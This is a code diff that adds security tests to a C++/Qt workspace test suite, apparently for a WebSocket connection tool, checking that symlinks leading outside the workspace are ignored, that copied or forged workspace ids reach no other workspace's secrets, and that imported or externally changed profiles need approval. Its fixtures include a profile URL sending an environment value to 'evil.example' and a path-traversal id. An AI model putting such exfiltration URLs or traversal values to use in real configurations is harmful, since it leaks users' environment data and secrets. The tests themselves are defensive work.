@@ -55,6 +55,7 @@ private slots:
     void init()
     {
         m_dir = std::make_unique<QTemporaryDir>();
+        qputenv("XDG_DATA_HOME", m_dir->filePath(QStringLiteral("data")).toUtf8());
         QVERIFY(QDir().mkpath(path(QString())));
     }
 
@@ -382,6 +383,101 @@ private slots:
         QVERIFY(ws.ok());
         QVERIFY((*ws)->items().empty());
         QTRY_COMPARE((*ws)->items().size(), std::size_t(1));
+    }
+
+#ifdef Q_OS_UNIX
+    /// Not only what is listed: the settings of a folder and of the workspace too.
+    void settingsBehindALinkThatLeadsOutAreNotRead()
+    {
+        QFile outside(m_dir->filePath(QStringLiteral("outside.json")));
+        QVERIFY(outside.open(QIODevice::WriteOnly));
+        outside.write(R"({"version":1,"name":"stolen","variables":[{"name":"a","value":"stolen"}]})");
+        outside.close();
+        write(QStringLiteral("dir/p.connection.json"), R"({"version":1,"url":"ws://{{a}}/"})");
+        QVERIFY(QFile::link(outside.fileName(), path(QStringLiteral("dir/folder.json"))));
+        QVERIFY(QFile::link(outside.fileName(), path(QStringLiteral("workspace.json"))));
+        const auto ws = workspace();
+        QVERIFY(ws->name() != QLatin1String("stolen"));
+        QVERIFY(ws->item(QStringLiteral("dir"))->name != QLatin1String("stolen"));
+        QVERIFY2(ids(ws->problems()).contains(QStringLiteral("workspace.link-outside dir/folder.json")), qPrintable(ids(ws->problems()).join(QLatin1Char('\n'))));
+        QCOMPARE(ws->folderSettings(QStringLiteral("dir")).error().id, QStringLiteral("workspace.outside"));
+        QCOMPARE(ws->folderSettings({}).error().id, QStringLiteral("workspace.outside"));
+        QVERIFY(!ws->effective(QStringLiteral("dir/p.connection.json")).ok());
+        QVERIFY(!ws->saveFolder(QStringLiteral("dir"), Folder(), {}).ok());
+    }
+#endif
+
+    /// A copied workspace.json, or one that names another's id, leads to no secret and no cookie of the other.
+    void secretsAndCookiesGoByThePlaceNotByWhatStandsInAFile()
+    {
+        auto one = Workspace::create(m_dir->filePath(QStringLiteral("one")), QStringLiteral("One"));
+        QVERIFY(one.ok());
+        QVERIFY(QDir().mkpath(m_dir->filePath(QStringLiteral("two"))));
+        QVERIFY(QFile::copy(m_dir->filePath(QStringLiteral("one/workspace.json")), m_dir->filePath(QStringLiteral("two/workspace.json"))));
+        const auto two = Workspace::open(m_dir->filePath(QStringLiteral("two")));
+        QVERIFY((*two)->id() != (*one)->id());
+        write(QStringLiteral("workspace.json"), "{\"version\":1,\"id\":\"" + (*one)->id().toUtf8() + "\"}");
+        QVERIFY(workspace()->id() != (*one)->id());
+        write(QStringLiteral("workspace.json"), R"({"version":1,"id":"../../../../tmp/x"})");
+        QVERIFY(!workspace()->id().contains(QLatin1Char('/')));
+        // The program's own one keeps the random id that its secrets have had from the beginning, but takes no other.
+        qunsetenv("FRAMESCOPE_WORKSPACE");
+        if (!Workspace::defaultFolder().startsWith(m_dir->path()))
+            QSKIP("FRAMESCOPE-SKIPPED: the place for data cannot be chosen here");
+        const auto own = Workspace::openDefault();
+        QVERIFY(own.ok());
+        const QString written = (*own)->document(QStringLiteral("workspace.json"))->value[u"id"].toString();
+        QCOMPARE((*own)->id(), written);
+        QFile file((*own)->absolute(QStringLiteral("workspace.json")));
+        QVERIFY(file.open(QIODevice::WriteOnly));
+        file.write("{\"version\":1,\"id\":\"" + (*one)->id().toUtf8() + "\"}");
+        file.close();
+        QVERIFY((*Workspace::openDefault())->id() != (*one)->id());
+    }
+
+    void whatIsMadeHereIsOursAndTheRestIsAskedFor()
+    {
+        const auto question = [](const Workspace &ws, const QString &path, const QString &environment = {}) {
+            return ws.question(path, environment, ws.effective(path).value(), Resolver(ws.variablesFor(path, environment).value()));
+        };
+        Profile asking = Profile::create(QStringLiteral("P"), QStringLiteral("ws://evil.example/{{env.HOME}}"));
+        const auto made = Workspace::create(path(QString()), QStringLiteral("W"));
+        Workspace &ws = **made;
+        const QString own = ws.addProfile({}, asking).value();
+        QVERIFY(question(ws, own).isEmpty());
+        auto loaded = ws.profile(own);
+        loaded->value.url += QStringLiteral("x");
+        QVERIFY(ws.saveProfile(own, loaded->value, loaded->stamp).ok());
+        const QString moved = ws.move(ws.rename(own, QStringLiteral("Q")).value(), ws.addFolder({}, QStringLiteral("F")).value()).value();
+        QVERIFY(question(ws, moved).isEmpty());
+        QVERIFY(question(ws, ws.duplicate(moved).value()).isEmpty());
+
+        // From an import, and however it is handled afterwards.
+        asking.id.clear();
+        const QString foreign = ws.addProfile({}, asking, Workspace::Origin::Foreign).value();
+        QVERIFY(!question(ws, foreign).isEmpty());
+        QVERIFY(!question(ws, ws.duplicate(foreign).value()).isEmpty());
+        const QString renamed = ws.rename(foreign, QStringLiteral("R")).value();
+        QVERIFY(!question(ws, renamed).isEmpty());
+        loaded = ws.profile(renamed);
+        loaded->value.notes = QStringLiteral("read");
+        QVERIFY(ws.saveProfile(renamed, loaded->value, loaded->stamp).ok());
+        QVERIFY(!question(ws, renamed).isEmpty());
+        QVERIFY(ws.allow(question(ws, renamed)).ok());
+        QVERIFY(question(ws, renamed).isEmpty());
+
+        // From git: what is changed behind our back is asked for again, also where it is a folder's or an environment's file.
+        write(QStringLiteral("F/folder.json"), R"({"version":1,"name":"F","headers":[{"name":"X","value":"{{env.USER}}"}]})");
+        QVERIFY(!question(ws, moved).isEmpty());
+        QVERIFY(ws.allow(question(ws, moved)).ok());
+        QVERIFY(question(ws, moved).isEmpty());
+        write(QStringLiteral("F/folder.json"), R"({"version":1,"name":"F","headers":[{"name":"Y","value":"{{env.USER}}"}]})");
+        QVERIFY(!question(ws, moved).isEmpty());
+        write(QStringLiteral("F/folder.json"), R"({"version":1,"name":"Other","description":"says nothing"})");
+        QVERIFY(question(ws, moved).isEmpty());
+        write(QStringLiteral("environments/E.json"), R"({"version":1,"name":"E","variables":[{"name":"host","value":"elsewhere"}]})");
+        ws.rescan();
+        QVERIFY(!question(ws, moved, QStringLiteral("E")).isEmpty());
     }
 };
 
